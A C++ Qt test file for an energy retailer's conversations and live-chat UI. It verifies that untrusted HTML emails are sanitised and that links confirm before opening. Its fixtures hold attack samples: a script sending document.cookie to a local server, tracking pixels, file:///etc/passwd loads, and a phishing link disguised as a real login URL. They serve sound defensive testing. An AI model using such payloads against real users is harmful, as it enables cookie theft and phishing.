// The conversations panes offscreen: an email with a <script> and remote images renders with
// neither run nor fetched (a QTcpServer the images point at must see no connection), links ask
// before opening, every message kind renders from the real sandbox, the live-chat queue
// filters by status and opens the right account, and the error/empty states show.
#include "models/conversations/ConversationService.h"
#include "models/conversations/ConversationTimelineModel.h"
#include "models/conversations/LiveChatQueueModel.h"
#include "models/conversations/TimelineFilterModel.h"
#include "support/SandboxFixture.h"
#include "support/SignedInTransport.h"
#include "ui/PaneStateWidget.h"
#include "ui/conversations/ConversationsPane.h"
#include "ui/conversations/LiveChatQueuePane.h"
#include "ui/conversations/MessageView.h"
#include "ui/conversations/SafeTextBrowser.h"

#include <QAbstractButton>
#include <QAbstractItemModelTester>
#include <QAbstractTextDocumentLayout>
#include <QApplication>
#include <QBuffer>
#include <QClipboard>
#include <QComboBox>
#include <QImage>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTest>
#include <QTextDocument>
#include <QTreeView>

using namespace kac;
using models::ConversationService;
using models::ConversationTimelineModel;
using models::MessageContent;
using ui::PaneStateWidget;

namespace {

const QString kBigAccount = QStringLiteral("A-8E4B92D1");

MessageContent emailWithHtml(const QString &html)
{
    MessageContent m;
    m.kind = MessageContent::Kind::Email;
    m.direction = MessageContent::Direction::Inbound;
    m.subject = QStringLiteral("Test email");
    m.from = QStringLiteral("customer@example.com");
    m.toList = {QStringLiteral("hello@redenergy.com.au")};
    m.occurredAt = QDateTime::fromString(QStringLiteral("2025-11-14T09:00:00+10:00"), Qt::ISODate);
    m.html = html;
    m.plainText = QStringLiteral("Plain version");
    return m;
}

} // namespace

class TestConversationsUi : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void emailWithScriptAndRemoteImagesFetchesNothing();
    void loadResourceNeverTouchesNetworkOrFiles();
    void linksShowTargetAndAskBeforeOpening();
    void paneShowsEveryMessageKind();
    void paneFiltersAndSearches();
    void paneErrorHasCodeAndRetry();
    void liveChatQueueFiltersAndOpensAccount();

private:
    bool selectFirst(ui::ConversationsPane &pane, MessageContent::Kind kind,
                     const QString &subjectPrefix = {});

    test::SandboxFixture m_sandbox;
    test::SignedInTransport m_api;
};

void TestConversationsUi::initTestCase()
{
    QVERIFY2(m_sandbox.start(), qPrintable(m_sandbox.failure()));
    QVERIFY(m_api.signIn(m_sandbox.url()));
}

void TestConversationsUi::emailWithScriptAndRemoteImagesFetchesNothing()
{
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QSignalSpy connections(&server, &QTcpServer::newConnection);
    const QString base = QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort());
    const QString html =
        QStringLiteral(
            "<html><head><link rel=\"stylesheet\" "
            "href=\"%1/style.css\"><style>body{background:url(%1/css-bg.png)}</style></head>"
            "<body onload=\"new Image().src='%1/onload'\"><p>Hi, my last bill looks high.</p>"
            "<img src=\"%1/pixel.png\" width=\"1\" height=\"1\"><img src=\"%1/logo.png\" "
            "alt=\"logo\">"
            "<div style=\"background-image:url('%1/div-bg.png')\">styled</div>"
            "<iframe src=\"%1/frame.html\"></iframe><object data=\"%1/object.swf\"></object>"
            "<script>document.write('<img src=%1/from-script.png>'); "
            "fetch('%1/fetch?c='+document.cookie)</script>"
            "<a href=\"%1/click\">View your bill</a></body></html>")
            .arg(base);

    ui::MessageView view;
    view.resize(800, 600);
    view.show();
    view.showMessage(emailWithHtml(html));
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    // Lay out and paint everything (images are asked for during layout and paint).
    view.body()->document()->documentLayout()->documentSize();
    view.grab();
    view.body()->verticalScrollBar()->setValue(view.body()->verticalScrollBar()->maximum());
    view.body()->viewport()->grab();
    QTest::qWait(500);

    QCOMPARE(connections.size(), 0);
    QVERIFY(!server.hasPendingConnections());

    const QString shown = view.body()->toHtml();
    for (const char *gone : {"<script", "document.cookie", "fetch(", "onload", "iframe",
                             "object.swf", "style.css", "css-bg", "div-bg", "from-script"})
        QVERIFY2(!shown.contains(QLatin1String(gone), Qt::CaseInsensitive), gone);
    QVERIFY(view.body()->toPlainText().contains(QLatin1String("my last bill looks high")));
    QVERIFY(!view.body()->toPlainText().contains(QLatin1String("document")));

    // The two <img> were blocked, recorded and said out loud.
    const QStringList blocked = view.body()->blockedUrls();
    QVERIFY(blocked.contains(base + QStringLiteral("/pixel.png")));
    QVERIFY(blocked.contains(base + QStringLiteral("/logo.png")));
    QCOMPARE(view.body()->blockedCount(), 2);
    QVERIFY(view.blockedLabel()->isVisible());
    QVERIFY2(view.blockedLabel()->text().startsWith(QLatin1String("2 remote images blocked")),
             qPrintable(view.blockedLabel()->text()));

    // A plain message next: the banner goes.
    MessageContent sms;
    sms.kind = MessageContent::Kind::Sms;
    sms.body = QStringLiteral("<b>not bold</b>");
    view.showMessage(sms);
    QVERIFY(!view.blockedLabel()->isVisible());
    QVERIFY(view.body()->toPlainText().contains(
        QLatin1String("<b>not bold</b>"))); // escaped, shown as text
    QCOMPARE(connections.size(), 0);
}

void TestConversationsUi::loadResourceNeverTouchesNetworkOrFiles()
{
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QSignalSpy connections(&server, &QTcpServer::newConnection);
    const QString base = QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort());

    ui::SafeTextBrowser browser;
    browser.resize(600, 400);
    browser.show();
    // Even HTML that skipped the sanitiser cannot make the browser fetch or read anything.
    browser.setHtml(
        QStringLiteral(
            "<img src=\"%1/raw.png\">"
            "<img src=\"ftp://127.0.0.1:%2/a.png\"><img src=\"file:///etc/hostname\">"
            "<img src=\"relative.png\"><p style=\"background-image:url(%1/bg.png)\">x</p>"
            "<link rel=stylesheet href=\"%1/raw.css\">")
            .arg(base)
            .arg(server.serverPort()));
    browser.document()->documentLayout()->documentSize(); // lays out: every image is asked for
    browser.grab();
    QTest::qWait(300);
    QCOMPARE(connections.size(), 0);
    QVERIFY(browser.blockedUrls().contains(base + QStringLiteral("/raw.png")));
    QVERIFY(browser.blockedUrls().contains(QStringLiteral("file:///etc/hostname")));

    const QVariant image = browser.loadResource(QTextDocument::ImageResource,
                                                QUrl(base + QStringLiteral("/direct.png")));
    QCOMPARE(image.value<QImage>(), ui::SafeTextBrowser::placeholderImage());
    const QVariant css = browser.loadResource(QTextDocument::StyleSheetResource,
                                              QUrl(QStringLiteral("file:///etc/passwd")));
    QVERIFY(!css.isNull());
    QVERIFY(css.toString().isEmpty()); // not the file's contents
    // data: images are decoded in memory.
    QImage red(2, 2, QImage::Format_RGB32);
    red.fill(Qt::red);
    QByteArray png;
    {
        QBuffer buffer(&png);
        buffer.open(QIODevice::WriteOnly);
        red.save(&buffer, "PNG");
    }
    const QVariant decoded = browser.loadResource(
        QTextDocument::ImageResource,
        QUrl(QStringLiteral("data:image/png;base64,") + QString::fromLatin1(png.toBase64())));
    QCOMPARE(decoded.value<QImage>().pixelColor(0, 0), QColor(Qt::red));
    QCOMPARE(connections.size(), 0);
}

void TestConversationsUi::linksShowTargetAndAskBeforeOpening()
{
    ui::MessageView view;
    view.showMessage(emailWithHtml(QStringLiteral(
        "<p><a href=\"https://evil.example/login\">https://www.redenergy.com.au/login</a></p>"
        "<p><a href=\"javascript:alert(1)\">Click me</a></p>")));
    // The agent sees where the link really goes.
    QVERIFY(view.body()->toPlainText().contains(QLatin1String("[https://evil.example/login]")));

    QList<QUrl> asked;
    QList<QUrl> opened;
    bool answer = false;
    view.body()->setLinkConfirmer([&](const QUrl &url) {
        asked << url;
        return answer;
    });
    view.body()->setUrlOpener([&](const QUrl &url) {
        opened << url;
        return true;
    });
    QSignalSpy refused(view.body(), &ui::SafeTextBrowser::linkRefused);

    emit view.body()->anchorClicked(QUrl(QStringLiteral("https://evil.example/login")));
    QCOMPARE(asked.size(), 1);
    QVERIFY(opened.isEmpty()); // the agent said no
    answer = true;
    emit view.body()->anchorClicked(QUrl(QStringLiteral("https://evil.example/login")));
    QCOMPARE(opened, QList<QUrl>{QUrl(QStringLiteral("https://evil.example/login"))});
    emit view.body()->anchorClicked(QUrl(QStringLiteral("javascript:alert(1)")));
    QCOMPARE(refused.size(), 1);
    QCOMPARE(asked.size(), 2);               // never even asked
    QCOMPARE(view.body()->source(), QUrl()); // the browser never navigated
}

bool TestConversationsUi::selectFirst(ui::ConversationsPane &pane, MessageContent::Kind kind,
                                      const QString &subjectPrefix)
{
    auto *timeline = pane.service()->timeline();
    for (int row = 0; row < pane.filter()->rowCount(); ++row) {
        const QModelIndex index = pane.filter()->index(row, 0);
        // A copy: the view may page in more rows (and reallocate) while we wait.
        const MessageContent message =
            timeline->eventAt(pane.filter()->mapToSource(index).row()).message;
        if (message.kind != kind || !message.subject.startsWith(subjectPrefix))
            continue;
        // The event carried the message: it is shown at once, with no request sent.
        const int requests = int(m_sandbox.requestLog().size());
        pane.timelineView()->setCurrentIndex(index);
        return pane.messageView()->hasMessage() &&
               pane.messageView()->message().identity() == message.identity() &&
               int(m_sandbox.requestLog().size()) == requests;
    }
    return false;
}

void TestConversationsUi::paneShowsEveryMessageKind()
{
    ui::ConversationsPane pane(&m_api.transport, kBigAccount);
    pane.resize(1200, 700);
    pane.show();
    QCOMPARE(pane.paneState()->state(), PaneStateWidget::State::Loading);
    pane.start();
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Content; }, 20000));
    const QString summary = pane.summaryLabel()->text();
    for (const char *part : {"Open", "Live chat", "Billing enquiries", "Bill query", "Solar",
                             "s\u2022\u2022\u2022@outlook.com"})
        QVERIFY2(summary.contains(QString::fromUtf8(part)), part);
    QVERIFY(!summary.contains(QLatin1String("siobhan.mulcahy@"))); // masked, as everywhere
    QVERIFY(!summary.contains(QLatin1String("+61491570159")));     // the mobile is masked
    // No totalCount on Ink connections: what is loaded, and that there is more.
    QVERIFY2(pane.countLabel()->text().contains(QLatin1String("50 loaded, older ones on request")),
             qPrintable(pane.countLabel()->text()));

    // An inbound email with a tracking pixel and a <script>.
    QVERIFY(selectFirst(pane, MessageContent::Kind::Email, QStringLiteral("Re:")));
    ui::MessageView *view = pane.messageView();
    QCOMPARE(view->state()->state(), PaneStateWidget::State::Content);
    QVERIFY(view->headerLabel()->text().contains(QLatin1String("Re: Question about my last bill")));
    QVERIFY(
        view->headerLabel()->text().contains(QString::fromUtf8("s\u2022\u2022\u2022@outlook.com")));
    QVERIFY(!view->headerLabel()->text().contains(QLatin1String("siobhan.mulcahy@")));
    QVERIFY(view->body()->toPlainText().contains(QLatin1String("My last bill looks a lot higher")));
    QVERIFY(!view->body()->toHtml().contains(QLatin1String("document.cookie")));
    QVERIFY(view->blockedLabel()->isVisible());
    QVERIFY(view->blockedLabel()->text().startsWith(QLatin1String("1 remote image blocked")));

    // A bill email lists its attachment.
    QVERIFY(selectFirst(pane, MessageContent::Kind::Email, QStringLiteral("Your Red Energy bill")));
    QVERIFY(view->attachmentsLabel()->isVisible());
    QVERIFY(view->attachmentsLabel()->text().contains(QLatin1String("bill-A-8E4B92D1.pdf")));
    QCOMPARE(view->body()->blockedCount(), 2); // the logo and the open-tracking pixel

    // SMS and chat as bubbles; copy puts the plain text on the clipboard.
    for (const MessageContent::Kind kind :
         {MessageContent::Kind::Sms, MessageContent::Kind::LiveChat}) {
        QVERIFY(selectFirst(pane, kind));
        const MessageContent &message = view->message();
        QVERIFY(view->body()->toPlainText().contains(message.body));
        QVERIFY(view->body()->toHtml().contains(message.isInbound() ? QLatin1String("#ececec")
                                                                    : QLatin1String("#d7e8ff")));
        QVERIFY(!view->blockedLabel()->isVisible());
        QSignalSpy copied(&pane, &ui::ConversationsPane::copied);
        QTest::mouseClick(view->copyButton(), Qt::LeftButton);
        QCOMPARE(copied.size(), 1);
        QCOMPARE(QApplication::clipboard()->text(), message.body);
    }
}

void TestConversationsUi::paneFiltersAndSearches()
{
    ui::ConversationsPane pane(&m_api.transport, kBigAccount);
    QAbstractItemModelTester tester(pane.filter(),
                                    QAbstractItemModelTester::FailureReportingMode::QtTest);
    pane.resize(1000, 600);
    pane.show();
    pane.start();
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Content; }, 20000));
    QVERIFY(QTest::qWaitFor([&] { return !pane.service()->timeline()->isLoading(); }, 20000));

    pane.channelFilter()->setCurrentIndex(
        pane.channelFilter()->findData(int(MessageContent::Kind::LiveChat)));
    QTreeView *view = pane.timelineView();
    QVERIFY(view->model()->rowCount() > 0);
    for (int row = 0; row < view->model()->rowCount(); ++row)
        QCOMPARE(
            view->model()->index(row, ConversationTimelineModel::ChannelColumn).data().toString(),
            QStringLiteral("Live chat"));
    QVERIFY(pane.countLabel()->text().contains(QLatin1String("shown")));

    pane.channelFilter()->setCurrentIndex(0);
    QTest::keyClicks(pane.searchField(), QStringLiteral("solar"));
    QVERIFY(view->model()->rowCount() > 0);
    for (int row = 0; row < view->model()->rowCount(); ++row)
        QVERIFY(view->model()
                    ->index(row, 0)
                    .data(ConversationTimelineModel::SearchTextRole)
                    .toString()
                    .contains("solar", Qt::CaseInsensitive));
}

void TestConversationsUi::paneErrorHasCodeAndRetry()
{
    ui::ConversationsPane pane(&m_api.transport, QStringLiteral("A-00000000"));
    pane.show();
    pane.start();
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Error; }, 20000));
    QVERIFY(pane.paneState()->errorCode().contains(QLatin1String("KT-CT-4177")));
    QTest::mouseClick(pane.paneState()->retryButton(), Qt::LeftButton);
    QCOMPARE(pane.paneState()->state(), PaneStateWidget::State::Loading);
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Error; }, 20000));
}

void TestConversationsUi::liveChatQueueFiltersAndOpensAccount()
{
    ui::LiveChatQueuePane pane(&m_api.transport);
    QAbstractItemModelTester tester(pane.service()->liveChats(),
                                    QAbstractItemModelTester::FailureReportingMode::QtTest);
    pane.resize(900, 500);
    pane.show();
    QCOMPARE(pane.status(), QStringLiteral("OPEN"));
    pane.start();
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Content; }, 20000));
    QAbstractItemModel *model = pane.view()->model();
    QVERIFY(model->rowCount() > 0);
    for (int row = 0; row < model->rowCount(); ++row)
        QCOMPARE(model->index(row, 0).data(models::LiveChatQueueModel::StatusRole).toString(),
                 QStringLiteral("OPEN"));
    QCOMPARE(model->index(0, models::LiveChatQueueModel::AccountColumn).data().toString(),
             kBigAccount);
    // No totalCount on Ink connections: the count is what is loaded, and whether more exist.
    const QString loaded = QLocale().toString(model->rowCount());
    QVERIFY2(pane.countLabel()->text() ==
                 (pane.service()->liveChatLoader()->canFetchMore()
                      ? QStringLiteral("%1 chats loaded, more to come").arg(loaded)
                      : QStringLiteral("%1 chats").arg(loaded)),
             qPrintable(pane.countLabel()->text()));

    // Enter on the first chat opens its account.
    QSignalSpy open(&pane, &ui::LiveChatQueuePane::openAccountRequested);
    pane.view()->setFocus();
    pane.view()->setCurrentIndex(model->index(0, 0));
    QTest::keyClick(pane.view(), Qt::Key_Return);
    QCOMPARE(open.size(), 1);
    QCOMPARE(open.first().first().toString(), kBigAccount);

    // Closed chats only.
    pane.statusFilter()->setCurrentIndex(pane.statusFilter()->findData(QStringLiteral("CLOSED")));
    QCOMPARE(pane.paneState()->state(), PaneStateWidget::State::Loading);
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Content; }, 20000));
    QVERIFY(model->rowCount() > 0);
    for (int row = 0; row < model->rowCount(); ++row) {
        QCOMPARE(model->index(row, 0).data(models::LiveChatQueueModel::StatusRole).toString(),
                 QStringLiteral("CLOSED"));
        QVERIFY(model->index(row, models::LiveChatQueueModel::AccountColumn).data().toString() !=
                kBigAccount);
    }
    pane.openRow(0);
    QCOMPARE(open.size(), 2);
    QCOMPARE(open.last().first().toString(),
             model->index(0, models::LiveChatQueueModel::AccountColumn).data().toString());

    // A status nobody has: the empty page.
    pane.service()->loadLiveChats(QStringLiteral("ARCHIVED"));
    QVERIFY(QTest::qWaitFor(
        [&] { return pane.paneState()->state() == PaneStateWidget::State::Empty; }, 20000));
}

QTEST_MAIN(TestConversationsUi)
#include "tst_conversations_ui.moc"
